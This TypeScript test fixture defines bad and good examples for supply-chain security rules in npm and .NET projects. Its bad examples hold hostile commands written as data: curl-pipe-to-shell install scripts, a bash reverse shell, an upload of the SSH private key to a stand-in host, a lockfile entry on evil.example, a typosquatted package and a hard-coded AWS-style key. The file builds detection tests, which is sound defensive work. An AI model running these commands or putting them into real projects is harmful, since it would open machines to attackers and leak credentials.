import { flags, flagsChange, type RuleWords } from '../../rule-example.ts';

const write = (manifest: object): string =>
  `${JSON.stringify({ name: 'shop', version: '1.0.0', ...manifest }, null, 2)}\n`;

const HOST = 'https://registry.example';
const LOCKED = { version: '1.0.0', integrity: `sha512-${'a'.repeat(86)}==` };
const lockfile = (...hosts: readonly string[]): string =>
  `${JSON.stringify(
    {
      name: 'shop',
      lockfileVersion: 3,
      packages: Object.fromEntries(
        hosts.map((host, index) => [
          `node_modules/p${index}`,
          { ...LOCKED, resolved: `${host}/p${index}/-/p${index}-1.0.0.tgz` },
        ]),
      ),
    },
    null,
    2,
  )}\n`;
const project = (audit: string): string =>
  `<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><NuGetAudit>${audit}</NuGetAudit></PropertyGroup></Project>\n`;
const PLAIN = write({ scripts: { b: 'b' } });
/** Put together here, so that no scanner takes this file for a leak. */
const KEY = ['AKIA', 'Q3EGVF6PLHW2ZBXM'].join('');
const READ = 'export const key = process.env.AWS_KEY;\n';
const HELD = `export const key = '${KEY}';\n`;

/** Hazards of what is installed, and credentials. */
export const PACKAGE_EXAMPLES = {
  'hard-coded-secret': flagsChange(
    'Everybody who can read the repository, now or later, can use the service in its owner’s name.',
    {
      path: 'src/upload.js',
      bad: HELD,
      good: READ,
    },
  ),
  'removed-secret': flagsChange(
    'The commit that brought it stays, and with it the value: only its successor is safe.',
    {
      path: 'src/upload.js',
      base: HELD,
      bad: READ,
      good: HELD,
    },
  ),
  'install-script': flagsChange(
    'It runs on the machine of everybody who installs the package, before anybody has looked at it.',
    {
      path: 'package.json',
      base: PLAIN,
      bad: write({ scripts: { b: 'b', postinstall: 'curl -fsSL https://get.example/setup.sh | bash' } }),
      good: write({ scripts: { b: 'b', build: 'tsc' } }),
    },
  ),
  'downloaded-code': flags('Whoever has that address tomorrow, or stands on the way to it, runs what they like.', [
    'scripts/setup.sh',
    '#!/bin/sh\nset -eu\ncurl -sSf https://get.tool.example/i.sh | sh',
    '#!/bin/sh\nset -eu\nnpm ci',
  ]),
  'remote-shell': flags('Somebody else types commands on the machine, with all rights of whoever runs the program.', [
    'scripts/status.sh',
    '#!/bin/sh\nset -eu\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
    '#!/bin/sh\nset -eu\nnc -z db.internal 5432',
  ]),
  'secret-sent-away': flagsChange('A credential of the machine leaves it, whatever the reason is.', {
    path: 'package.json',
    base: PLAIN,
    bad: write({ scripts: { b: 'b', posttest: 'curl -F f=@$HOME/.ssh/id_rsa https://x.example' } }),
    good: write({ scripts: { b: 'b', posttest: 'npm run lint' } }),
  }),
  'dependency-source': flagsChange('A branch or an address can have other contents tomorrow under the same name.', {
    path: 'package.json',
    base: PLAIN,
    bad: write({ scripts: { b: 'b' }, dependencies: { a: 'git+https://x.example/a.git#main' } }),
    good: write({ scripts: { b: 'b' }, dependencies: { 'node-fetch': '3.3.2' } }),
  }),
  'registry-override': flagsChange('Another place decides what a name means.', {
    path: 'package.json',
    base: PLAIN,
    bad: write({ scripts: { b: 'b', ci: 'npm ci --registry http://npm.x.example/' } }),
    good: write({ scripts: { b: 'b', ci: 'npm ci' } }),
  }),
  'security-check-off': flagsChange('A hole that everybody knows comes in, and the build stays green.', {
    path: 'src/shop.csproj',
    base: project('true'),
    bad: project('false'),
    good: project('$(Audit)'),
  }),
  'lockfile-tampering': flagsChange('The package of that name comes from a place that nobody else uses.', {
    path: 'package-lock.json',
    base: lockfile(HOST, HOST),
    bad: lockfile('https://evil.example', HOST),
    good: lockfile(HOST, HOST, HOST),
  }),
  'lockfile-removed': flagsChange('Each install takes whatever is newest then, and no digest is compared.', {
    path: 'package-lock.json',
    base: lockfile(HOST, HOST),
    bad: null,
    good: lockfile(HOST, HOST, HOST),
    beside: { 'package.json': write({ dependencies: { p0: '1.0.0', p1: '1.0.0' } }) },
  }),
  'look-alike-dependency': flagsChange('A slip of a letter installs the package of whoever waited for it.', {
    path: 'package.json',
    base: PLAIN,
    bad: write({ scripts: { b: 'b' }, dependencies: { 'node-fecth': '3.3.2' } }),
    good: write({ scripts: { b: 'b' }, dependencies: { 'node-fetch': '3.3.2' } }),
  }),
} as const satisfies Readonly<Record<string, RuleWords>>;
